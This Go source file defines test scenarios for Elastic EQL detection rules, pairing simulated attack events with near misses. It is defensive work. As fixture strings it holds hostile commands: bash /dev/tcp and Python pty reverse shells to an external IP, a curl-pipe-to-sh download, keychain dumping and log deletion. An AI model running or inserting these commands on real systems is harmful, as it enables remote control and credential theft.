package sample

import "strings"

// EQLScenario is the injected attack of one of Elastic's prebuilt EQL
// rules and its near misses: each near miss differs from the attack in one
// condition the rule checks (event kind, path, parent, host OS, maxspan,
// join key, a missing stage, an excluded value). The rule must alert on
// every event of the attack (one sequence, for a sequence rule) and on
// nothing else.
type EQLScenario struct {
	// Rule is the rule's file in ../shared/rules/eql without .toml.
	Rule       string
	Attack     Case
	NearMisses []NearMiss
}

// NearMiss is a case the rule must not alert on, and the proof that it
// misses by the one condition it names: Relax, pairs of old and new text
// for the rule's query (strings.NewReplacer), loosens that condition, and
// the loosened query alerts on the near miss. A near miss without Relax
// has no loosened form (a missing stage).
type NearMiss struct {
	Case
	Relax []string
}

// Cases are the attack and then the near misses.
func (s EQLScenario) Cases() []Case {
	out := []Case{s.Attack}
	for _, m := range s.NearMisses {
		out = append(out, m.Case)
	}
	return out
}

// miss is the near miss c, loosened by relax (see NearMiss).
func miss(c Case, relax ...string) NearMiss { return NearMiss{c, relax} }

// Name is the rule file's name without its rules__ prefix.
func (s EQLScenario) Name() string { return strings.TrimPrefix(s.Rule, "rules__") }

// Hosts and addresses of the scenarios. 45.155.205.233 is outside every
// private, reserved and documentation range the rules exclude.
const (
	linuxHost = "web-01"
	linuxDB   = "db-02"
	macHost   = "mac-03.corp.example"
	external  = "45.155.205.233"
	internal  = "10.20.0.8"
)

// one is a case of one event by one process.
func one(why, host string, p Proc, e Ev) Case {
	e.Proc = p.ID
	return Case{Why: why, Host: host, Procs: []Proc{p}, Events: []Ev{e}}
}

// run is a process started from the login shell with label id.
func run(id, exe string, args ...string) Proc { return Proc{ID: id, Exe: exe, Args: args} }

// asRoot is p run by root.
func asRoot(p Proc) Proc { p.User = "root"; return p }

// EQLScenarios is the bundled EQL scenario set (`vigil sample --eql`):
// Linux and macOS rules over process exec/fork/end, file and network
// events, 15 event queries and 11 sequences. docs/eql.md describes each.
var EQLScenarios = []EQLScenario{
	// Event queries on file events.
	{
		Rule:   "rules__linux__defense_evasion_doas_configuration_creation_or_rename",
		Attack: one("root writes /etc/doas.conf", linuxHost, asRoot(run("vi", "/usr/bin/vi", "vi", "/etc/doas.conf")), Ev{Kind: "creation", Path: "/etc/doas.conf"}),
		NearMisses: []NearMiss{
			miss(one("deletion, which the rule excludes", linuxHost, asRoot(run("rm", "/usr/bin/rm", "rm", "-f", "/etc/doas.conf")), Ev{Kind: "deletion", Path: "/etc/doas.conf"}), `event.type != "deletion" and `, ""),
			miss(one("the same file on macOS", macHost, asRoot(run("vi", "/usr/bin/vi", "vi", "/etc/doas.conf")), Ev{Kind: "creation", Path: "/etc/doas.conf"}), `host.os.type == "linux" and `, ""),
		},
	},
	{
		Rule:   "rules__macos__persistence_emond_rules_file_creation",
		Attack: one("an emond rule plist is modified", macHost, asRoot(run("cp", "/bin/cp", "cp", "/tmp/r.plist", "/private/etc/emond.d/rules/update.plist")), Ev{Kind: "modification", Path: "/private/etc/emond.d/rules/update.plist"}),
		NearMisses: []NearMiss{
			miss(one("creation, not modification", macHost, asRoot(run("cp", "/bin/cp", "cp", "/tmp/r.plist", "/private/etc/emond.d/rules/update.plist")), Ev{Kind: "creation", Path: "/private/etc/emond.d/rules/update.plist"}), `event.action == "modification"`, `event.action in ("modification", "creation")`),
			miss(one("not a .plist", macHost, asRoot(run("cp", "/bin/cp", "cp", "/tmp/r.plist", "/private/etc/emond.d/rules/update.plist.bak")), Ev{Kind: "modification", Path: "/private/etc/emond.d/rules/update.plist.bak"}), `"/private/etc/emond.d/rules/*.plist"`, `"/private/etc/emond.d/rules/*"`),
		},
	},
	{
		Rule:   "rules__macos__privilege_escalation_root_crontab_filemod",
		Attack: one("root's crontab edited by a script", macHost, asRoot(run("sh", "/bin/sh", "sh", "-c", "echo '* * * * * /tmp/.u' >> /private/var/at/tabs/root")), Ev{Kind: "modification", Path: "/private/var/at/tabs/root"}),
		NearMisses: []NearMiss{
			miss(one("edited by crontab itself (excluded)", macHost, asRoot(run("crontab", "/usr/bin/crontab", "crontab", "-e")), Ev{Kind: "modification", Path: "/private/var/at/tabs/root"}), `not process.executable like "/usr/bin/crontab"`, "true"),
		},
	},
	{
		Rule:   "rules__macos__persistence_periodic_tasks_file_modify",
		Attack: one("a periodic daily script modified", macHost, asRoot(run("tee", "/usr/bin/tee", "tee", "-a", "/private/etc/periodic/daily/110.clean-tmps")), Ev{Kind: "modification", Path: "/private/etc/periodic/daily/110.clean-tmps"}),
		NearMisses: []NearMiss{
			miss(one("a file beside the periodic paths", macHost, asRoot(run("tee", "/usr/bin/tee", "tee", "-a", "/private/etc/periodic.conf.bak")), Ev{Kind: "modification", Path: "/private/etc/periodic.conf.bak"}), `"/private/etc/periodic.conf"`, `"/private/etc/periodic.conf*"`),
		},
	},
	{
		Rule:   "rules__cross-platform__defense_evasion_deleting_websvr_access_logs",
		Attack: one("the Apache access log deleted", linuxHost, asRoot(run("rm", "/usr/bin/rm", "rm", "/var/log/apache2/access.log")), Ev{Kind: "deletion", Path: "/var/log/apache2/access.log"}),
		NearMisses: []NearMiss{
			miss(one("the error log deleted", linuxHost, asRoot(run("rm", "/usr/bin/rm", "rm", "/var/log/apache2/error.log")), Ev{Kind: "deletion", Path: "/var/log/apache2/error.log"}), `"/var/log/apache*/access.log"`, `"/var/log/apache*/*.log"`),
			miss(one("the access log truncated (modification)", linuxHost, asRoot(run("truncate", "/usr/bin/truncate", "truncate", "-s0", "/var/log/apache2/access.log")), Ev{Kind: "modification", Path: "/var/log/apache2/access.log"}), `event.type == "deletion"`, `event.type in ("deletion", "change")`),
		},
	},
	{
		Rule:   "rules__linux__defense_evasion_authorized_keys_file_deletion",
		Attack: one("root's authorized_keys deleted", linuxHost, asRoot(run("rm", "/usr/bin/rm", "rm", "-f", "/root/.ssh/authorized_keys")), Ev{Kind: "deletion", Path: "/root/.ssh/authorized_keys"}),
		NearMisses: []NearMiss{
			miss(one("a backup copy (path excluded)", linuxHost, run("rm", "/usr/bin/rm", "rm", "/home/deploy/.ssh/backup/authorized_keys"), Ev{Kind: "deletion", Path: "/home/deploy/.ssh/backup/authorized_keys"}), `"*backup*", `, ""),
			miss(one("deleted by the Google guest agent (excluded)", linuxHost, Proc{ID: "agent", Parent: "init", Exe: "/usr/bin/google_guest_agent", Args: []string{"/usr/bin/google_guest_agent"}, User: "root"}, Ev{Kind: "deletion", Path: "/home/deploy/.ssh/authorized_keys"}), `"/usr/bin/google_guest_agent", `, ""),
		},
	},
	{
		Rule:   "rules__linux__defense_evasion_ssl_certificate_deletion",
		Attack: one("a CA certificate deleted", linuxHost, asRoot(run("rm", "/usr/bin/rm", "rm", "/etc/ssl/certs/corp-root-ca.pem")), Ev{Kind: "deletion", Path: "/etc/ssl/certs/corp-root-ca.pem"}),
		NearMisses: []NearMiss{
			miss(one("deleted by update-ca-certificates (excluded)", linuxHost, asRoot(run("uca", "/usr/sbin/update-ca-certificates", "update-ca-certificates", "--fresh")), Ev{Kind: "deletion", Path: "/etc/ssl/certs/corp-root-ca.pem"}), `"/usr/sbin/update-ca-certificates", `, ""),
			miss(one("a hash link, not .pem or .crt", linuxHost, asRoot(run("rm", "/usr/bin/rm", "rm", "/etc/ssl/certs/9d66eef0.0")), Ev{Kind: "deletion", Path: "/etc/ssl/certs/9d66eef0.0"}), `file.extension in ("pem", "crt")`, "true"),
		},
	},
	// Event queries on process events.
	{
		Rule:   "rules__linux__credential_access_gdb_init_process_hooking",
		Attack: one("gdb attaches to pid 1", linuxHost, asRoot(run("gdb", "/usr/bin/gdb", "gdb", "-p", "1")), Ev{Kind: "exec"}),
		NearMisses: []NearMiss{
			miss(one("gdb attaches to another pid", linuxHost, asRoot(run("gdb", "/usr/bin/gdb", "gdb", "-p", "4242")), Ev{Kind: "exec"}), `process.args == "1"`, "true"),
		},
	},
	{
		Rule:   "rules__macos__credential_access_dumping_keychain_security",
		Attack: one("security dump-keychain -d", macHost, run("security", "/usr/bin/security", "security", "dump-keychain", "-d", "login.keychain"), Ev{Kind: "exec"}),
		NearMisses: []NearMiss{
			miss(one("-d without dump-keychain", macHost, run("security", "/usr/bin/security", "security", "list-keychains", "-d", "user"), Ev{Kind: "exec"}), `process.args like~ "dump-keychain" and `, ""),
		},
	},
	{
		Rule:   "rules__linux__defense_evasion_clear_kernel_ring_buffer",
		Attack: one("dmesg -C clears the ring buffer", linuxHost, asRoot(run("dmesg", "/usr/bin/dmesg", "dmesg", "-C")), Ev{Kind: "exec"}),
		NearMisses: []NearMiss{
			miss(one("dmesg -T only reads it", linuxHost, asRoot(run("dmesg", "/usr/bin/dmesg", "dmesg", "-T")), Ev{Kind: "exec"}), `process.args in ("-c", "-C", "--clear", "--read-clear")`, "true"),
		},
	},
	{
		Rule:   "rules__linux__discovery_linux_hping_activity",
		Attack: one("hping3 runs", linuxDB, asRoot(run("hping", "/usr/sbin/hping3", "hping3", "-S", "-p", "80", "10.20.0.1")), Ev{Kind: "exec"}),
		NearMisses: []NearMiss{miss(Case{
			Why: "hping3 forks (event.action fork, not exec)", Host: linuxDB,
			Procs: []Proc{asRoot(run("hping", "/usr/sbin/hping3", "hping3", "-S", "-p", "80", "10.20.0.1")),
				{ID: "child", Parent: "hping", Exe: "/usr/sbin/hping3", Args: []string{"hping3", "-S", "-p", "80", "10.20.0.1"}}},
			Events: []Ev{{Kind: "fork", Proc: "child"}},
		}, `event.action in ("exec", "exec_event", "start", "ProcessRollup2", "executed", "process_started")`, `event.action in ("exec", "fork")`)},
	},
	{
		Rule:   "rules__macos__defense_evasion_attempt_to_disable_gatekeeper",
		Attack: one("spctl --master-disable", macHost, asRoot(run("spctl", "/usr/sbin/spctl", "spctl", "--master-disable")), Ev{Kind: "exec"}),
		NearMisses: []NearMiss{
			miss(one("spctl --status", macHost, run("spctl", "/usr/sbin/spctl", "spctl", "--status"), Ev{Kind: "exec"}), `process.args like~ "--master-disable"`, "true"),
		},
	},
	{
		Rule:   "rules__linux__execution_process_started_in_shared_memory_directory",
		Attack: one("root runs a binary from /dev/shm", linuxHost, asRoot(run("miner", "/dev/shm/kdevtmpfsi", "/dev/shm/kdevtmpfsi")), Ev{Kind: "exec"}),
		NearMisses: []NearMiss{
			miss(one("not root", linuxHost, run("miner", "/dev/shm/kdevtmpfsi", "/dev/shm/kdevtmpfsi"), Ev{Kind: "exec"}), `user.id == "0" and `, ""),
			miss(one("docker's runtime directory (excluded)", linuxHost, asRoot(run("runc", "/var/run/docker/runtime-runc/moby/runc", "runc", "init")), Ev{Kind: "exec"}), `"/var/run/docker/*", `, ""),
		},
	},
	{
		Rule: "rules__linux__impact_esxi_process_kill",
		Attack: Case{Why: "a VM process ends under kill", Host: linuxDB,
			Procs:  []Proc{asRoot(run("kill", "/usr/bin/kill", "kill", "-9", "4242")), {ID: "vmx", Parent: "kill", Exe: "/bin/vmx", Args: []string{"vmx", "-x", "/vmfs/volumes/ds1/vm1/vm1.vmx"}}},
			Events: []Ev{{Kind: "end", Proc: "vmx", Set: map[string]any{"process.exit_code": 137}}}},
		NearMisses: []NearMiss{miss(Case{Why: "a VM process ends under another parent", Host: linuxDB,
			Procs:  []Proc{asRoot(run("vmm", "/bin/vmm", "vmm")), {ID: "vmx", Parent: "vmm", Exe: "/bin/vmx", Args: []string{"vmx", "-x", "/vmfs/volumes/ds1/vm1/vm1.vmx"}}},
			Events: []Ev{{Kind: "end", Proc: "vmx"}}}, `process.parent.name == "kill"`, "true")},
	},
	// An event query on network events.
	{
		Rule:   "rules__cross-platform__initial_access_ollama_api_external_access",
		Attack: one("Ollama's API accepts an Internet client", linuxDB, ollamaServe, Ev{Kind: "connection_accepted", Remote: external, Port: 11434}),
		NearMisses: []NearMiss{
			miss(one("a client on the private network", linuxDB, ollamaServe, Ev{Kind: "connection_accepted", Remote: "192.168.1.50", Port: 11434}), `"192.168.0.0/16",`, ""),
			miss(one("another port", linuxDB, ollamaServe, Ev{Kind: "connection_accepted", Remote: external, Port: 8080}), "destination.port == 11434", "destination.port in (11434, 8080)"),
		},
	},

	// Sequences.
	{
		Rule: "rules__cross-platform__execution_nodejs_pre_or_post_install_script_execution",
		Attack: Case{Why: "npm install runs a postinstall shell", Host: "build-02",
			Procs:  []Proc{npmInstall, {ID: "sh", Parent: "npm", Exe: "/bin/sh", Args: []string{"sh", "-c", "node ./scripts/postinstall.js"}}},
			Events: []Ev{{Kind: "exec", Proc: "npm"}, {At: 3, Kind: "exec", Proc: "sh"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "the child starts 12 s later (maxspan=10s)", Host: "build-02",
				Procs:  []Proc{npmInstall, {ID: "sh", Parent: "npm", Exe: "/bin/sh", Args: []string{"sh", "-c", "node ./scripts/postinstall.js"}}},
				Events: []Ev{{Kind: "exec", Proc: "npm"}, {At: 12, Kind: "exec", Proc: "sh"}}}, "maxspan=10s", "maxspan=20s"),
			miss(Case{Why: "the child's parent is another node process (join key)", Host: "build-02",
				Procs: []Proc{npmInstall, run("srv", "/usr/bin/node", "node", "server.js"),
					{ID: "sh", Parent: "srv", Exe: "/bin/sh", Args: []string{"sh", "-c", "node ./scripts/postinstall.js"}}},
				Events: []Ev{{Kind: "exec", Proc: "npm"}, {At: 2, Kind: "exec", Proc: "sh"}}}, "] by process.entity_id", "]", "] by process.parent.entity_id", "]"),
		},
	},
	{
		Rule: "rules__macos__execution_shell_execution_via_apple_scripting",
		Attack: Case{Why: "osascript runs a shell that downloads", Host: macHost,
			Procs:  []Proc{osascript, {ID: "sh", Parent: "osa", Exe: "/bin/sh", Args: []string{"sh", "-c", "curl -fsSL http://" + external + "/s | sh"}}},
			Events: []Ev{{Kind: "exec", Proc: "osa"}, {At: 1, Kind: "exec", Proc: "sh"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "the shell's command line names no download tool", Host: macHost,
				Procs:  []Proc{osascript, {ID: "sh", Parent: "osa", Exe: "/bin/sh", Args: []string{"sh", "-c", "ls -la ~/Documents"}}},
				Events: []Ev{{Kind: "exec", Proc: "osa"}, {At: 1, Kind: "exec", Proc: "sh"}}}, `process.command_line : ("*curl*", "*pbpaste*", "*http*", "*chmod*", "*nscurl*")`, "true"),
		},
	},
	{
		Rule: "rules__linux__credential_access_proc_credential_dumping",
		Attack: Case{Why: "ps then strings on a dump in /tmp from one shell", Host: linuxHost,
			Procs:  []Proc{asRoot(run("ps", "/usr/bin/ps", "ps", "-eo", "pid,command")), asRoot(run("strings", "/usr/bin/strings", "strings", "/tmp/sshd.core"))},
			Events: []Ev{{Kind: "exec", Proc: "ps"}, {At: 20, Kind: "exec", Proc: "strings"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "strings runs under another parent name (join key)", Host: linuxHost,
				Procs: []Proc{asRoot(run("ps", "/usr/bin/ps", "ps", "-eo", "pid,command")), asRoot(run("py", "/usr/bin/python3", "python3", "dump.py")),
					{ID: "strings", Parent: "py", Exe: "/usr/bin/strings", Args: []string{"strings", "/tmp/sshd.core"}}},
				Events: []Ev{{Kind: "exec", Proc: "ps"}, {At: 20, Kind: "exec", Proc: "strings"}}}, "sequence by host.id, process.parent.name with", "sequence by host.id with"),
			miss(Case{Why: "strings reads a file outside /tmp", Host: linuxHost,
				Procs:  []Proc{asRoot(run("ps", "/usr/bin/ps", "ps", "-eo", "pid,command")), asRoot(run("strings", "/usr/bin/strings", "strings", "/var/log/wtmp"))},
				Events: []Ev{{Kind: "exec", Proc: "ps"}, {At: 20, Kind: "exec", Proc: "strings"}}}, `process.args : "/tmp/*"`, "true"),
		},
	},
	{
		Rule: "rules__cross-platform__execution_git_exploit_cve_2025_48384",
		Attack: Case{Why: "a recursive clone runs a shell from git (CVE-2025-48384)", Host: macHost,
			Procs:  []Proc{gitClone("--recursive"), {ID: "sh", Parent: "git", Exe: "/bin/sh", Args: []string{"sh", "-c", ".git/modules/x/hooks/post-checkout"}}},
			Events: []Ev{{Kind: "exec", Proc: "git"}, {At: 4, Kind: "exec", Proc: "sh"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "a clone without --recursive", Host: macHost,
				Procs:  []Proc{gitClone("--depth=1"), {ID: "sh", Parent: "git", Exe: "/bin/sh", Args: []string{"sh", "-c", ".git/hooks/post-checkout"}}},
				Events: []Ev{{Kind: "exec", Proc: "git"}, {At: 4, Kind: "exec", Proc: "sh"}}}, `process.args == "--recursive" and `, ""),
		},
	},
	{
		Rule: "rules__linux__persistence_simple_web_server_connection_accepted",
		Attack: Case{Why: "a CGI-enabled Python web server accepts a connection", Host: linuxHost,
			Procs:  []Proc{run("py", "/usr/bin/python3.10", "python3", "-m", "http.server", "--cgi", "8000")},
			Events: []Ev{{Kind: "exec", Proc: "py"}, {At: 30, Kind: "connection_accepted", Proc: "py", Remote: internal, Port: 8000}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "a plain (non-CGI) web server", Host: linuxHost,
				Procs:  []Proc{run("py", "/usr/bin/python3.10", "python3", "-m", "http.server", "8000")},
				Events: []Ev{{Kind: "exec", Proc: "py"}, {At: 30, Kind: "connection_accepted", Proc: "py", Remote: internal, Port: 8000}}}, `process.command_line like ("*--cgi*", "*CGIHTTPServer*")`, "true"),
			miss(Case{Why: "the connection comes 70 s later (maxspan=1m)", Host: linuxHost,
				Procs:  []Proc{run("py", "/usr/bin/python3.10", "python3", "-m", "http.server", "--cgi", "8000")},
				Events: []Ev{{Kind: "exec", Proc: "py"}, {At: 70, Kind: "connection_accepted", Proc: "py", Remote: internal, Port: 8000}}}, "maxspan=1m", "maxspan=2m"),
		},
	},
	{
		Rule: "rules__macos__command_and_control_perl_outbound_network_connection",
		Attack: Case{Why: "perl connects to the Internet", Host: macHost,
			Procs:  []Proc{run("perl", "/usr/bin/perl", "perl", "/tmp/.p.pl")},
			Events: []Ev{{Kind: "exec", Proc: "perl"}, {At: 2, Kind: "connection_attempted", Proc: "perl", Remote: external, Port: 443}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "perl connects to a private address", Host: macHost,
				Procs:  []Proc{run("perl", "/usr/bin/perl", "perl", "/tmp/.p.pl")},
				Events: []Ev{{Kind: "exec", Proc: "perl"}, {At: 2, Kind: "connection_attempted", Proc: "perl", Remote: internal, Port: 443}}}, `"10.0.0.0/8", `, ""),
		},
	},
	{
		Rule: "rules__linux__execution_shell_via_child_tcp_utility_linux",
		Attack: Case{Why: "a shell connects out, then execs an interactive shell", Host: linuxHost,
			Procs:  revShell,
			Events: []Ev{{Kind: "connection_attempted", Proc: "sh", Remote: external, Port: 4444}, {At: 1, Kind: "exec", Proc: "shi"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "the exec comes 7 s later (maxspan=5s)", Host: linuxHost,
				Procs:  revShell,
				Events: []Ev{{Kind: "connection_attempted", Proc: "sh", Remote: external, Port: 4444}, {At: 7, Kind: "exec", Proc: "shi"}}}, "maxspan=5s", "maxspan=10s"),
			miss(Case{Why: "the connection is to loopback", Host: linuxHost,
				Procs:  revShell,
				Events: []Ev{{Kind: "connection_attempted", Proc: "sh", Remote: "127.0.0.1", Port: 4444}, {At: 1, Kind: "exec", Proc: "shi"}}}, `"127.0.0.0/8", `, ""),
		},
	},
	{
		Rule: "rules__linux__persistence_suspicious_ssh_execution_xzbackdoor",
		Attack: Case{Why: "sshd -D -R fails, and a shell under it runs a command", Host: linuxDB,
			Procs:  xzSSHD,
			Events: []Ev{{Kind: "end", Proc: "sshd", Set: map[string]any{"process.exit_code": 255}}, {At: 2, Kind: "exec", Proc: "sh"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "sshd exits with 0", Host: linuxDB,
				Procs:  xzSSHD,
				Events: []Ev{{Kind: "end", Proc: "sshd"}, {At: 2, Kind: "exec", Proc: "sh"}}}, "process.exit_code != 0 and", ""),
		},
	},
	{
		Rule: "rules__linux__execution_shell_via_lolbin_interpreter_linux",
		Attack: Case{Why: "a forked Python pty-spawner connects out", Host: linuxHost,
			Procs:  pySpawn,
			Events: []Ev{{Kind: "fork", Proc: "fork"}, {At: 0.3, Kind: "connection_attempted", Proc: "fork", Remote: external, Port: 4444}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "the connection is to loopback", Host: linuxHost,
				Procs:  pySpawn,
				Events: []Ev{{Kind: "fork", Proc: "fork"}, {At: 0.3, Kind: "connection_attempted", Proc: "fork", Remote: "127.0.0.1", Port: 4444}}}, `"127.0.0.0/8", `, ""),
			miss(Case{Why: "the connection comes 2 s later (maxspan=1s)", Host: linuxHost,
				Procs:  pySpawn,
				Events: []Ev{{Kind: "fork", Proc: "fork"}, {At: 2, Kind: "connection_attempted", Proc: "fork", Remote: external, Port: 4444}}}, "maxspan=1s", "maxspan=3s"),
		},
	},
	{
		Rule: "rules__macos__persistence_creation_change_launch_agents_file",
		Attack: Case{Why: "an installer writes a launch daemon and loads it", Host: macHost,
			Procs:  launchd("load"),
			Events: []Ev{{Kind: "launch_daemon", Proc: "inst", Path: "/Library/LaunchDaemons/com.apple.updated.plist"}, {At: 2, Kind: "exec", Proc: "lc"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "launchctl unload, not load", Host: macHost,
				Procs:  launchd("unload"),
				Events: []Ev{{Kind: "launch_daemon", Proc: "inst", Path: "/Library/LaunchDaemons/com.apple.updated.plist"}, {At: 2, Kind: "exec", Proc: "lc"}}}, `process.args == "load"`, `process.args in ("load", "unload")`),
			miss(Case{Why: "no launch daemon written (missing first stage)", Host: macHost,
				Procs:  launchd("load"),
				Events: []Ev{{At: 2, Kind: "exec", Proc: "lc"}}}),
		},
	},
	{
		Rule: "rules__linux__defense_evasion_multi_base64_decoding_attempt",
		Attack: Case{Why: "a script in /tmp decodes base64 twice", Host: linuxHost,
			Procs:  base64Twice("/tmp/.x"),
			Events: []Ev{{Kind: "exec", Proc: "b1"}, {At: 1, Kind: "exec", Proc: "b2"}}},
		NearMisses: []NearMiss{
			miss(Case{Why: "the script runs in /opt/app (not a suspicious directory)", Host: linuxHost,
				Procs:  base64Twice("/opt/app"),
				Events: []Ev{{Kind: "exec", Proc: "b1"}, {At: 1, Kind: "exec", Proc: "b2"}}}, `"/tmp/*", "/var/tmp*"`, `"/opt/*", "/tmp/*", "/var/tmp*"`),
			miss(Case{Why: "the second decode comes 5 s later (maxspan=3s)", Host: linuxHost,
				Procs:  base64Twice("/tmp/.x"),
				Events: []Ev{{Kind: "exec", Proc: "b1"}, {At: 5, Kind: "exec", Proc: "b2"}}}, "maxspan=3s", "maxspan=6s"),
		},
	},
}

// Processes several cases of one scenario share.
var (
	npmInstall = run("npm", "/usr/bin/node", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install")
	osascript  = run("osa", "/usr/bin/osascript", "osascript", "-e", `do shell script "curl -fsSL http://`+external+`/s | sh"`)
	revShell   = []Proc{
		run("sh", "/bin/bash", "bash", "-c", "exec 5<>/dev/tcp/"+external+"/4444; bash -i <&5 >&5 2>&5"),
		{ID: "shi", Image: "sh", Parent: "shell", Exe: "/bin/bash", Args: []string{"bash", "-i"}},
	}
	xzSSHD = []Proc{
		{ID: "listener", Parent: "init", Exe: "/usr/sbin/sshd", Args: []string{"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"}, User: "root", Cwd: "/"},
		{ID: "sshd", Parent: "listener", Exe: "/usr/sbin/sshd", Args: []string{"/usr/sbin/sshd", "-D", "-R"}},
		{ID: "sh", Parent: "sshd", Exe: "/bin/sh", Args: []string{"sh", "-c", "id; uname -a"}},
	}
	pySpawn = []Proc{
		run("py", "/usr/bin/python3.10", "python3", "-c", pySpawnCode),
		{ID: "fork", Parent: "py", Exe: "/usr/bin/python3.10", Args: []string{"python3", "-c", pySpawnCode}},
	}
	ollamaServe = Proc{ID: "ollama", Parent: "init", Exe: "/usr/local/bin/ollama", Args: []string{"/usr/local/bin/ollama", "serve"}, User: "ollama"}
)

const pySpawnCode = "import socket,os,pty;s=socket.socket();s.connect(('" + external + "',4444));pty.spawn('/bin/sh')"

func gitClone(flag string) Proc {
	return run("git", "/usr/bin/git", "git", "clone", flag, "https://github.com/example/project.git")
}

func launchd(verb string) []Proc {
	return []Proc{
		asRoot(run("inst", "/bin/bash", "bash", "/private/tmp/installer/postinstall")),
		{ID: "lc", Parent: "inst", Exe: "/bin/launchctl", Args: []string{"launchctl", verb, "-w", "/Library/LaunchDaemons/com.apple.updated.plist"}},
	}
}

func base64Twice(dir string) []Proc {
	return []Proc{
		{ID: "sh", Exe: "/bin/bash", Args: []string{"bash", dir + "/run.sh"}, Cwd: dir},
		{ID: "b1", Parent: "sh", Exe: "/usr/bin/base64", Args: []string{"base64", "-d", dir + "/p1"}},
		{ID: "b2", Parent: "sh", Exe: "/usr/bin/base64", Args: []string{"base64", "--decode", dir + "/p2"}},
	}
}
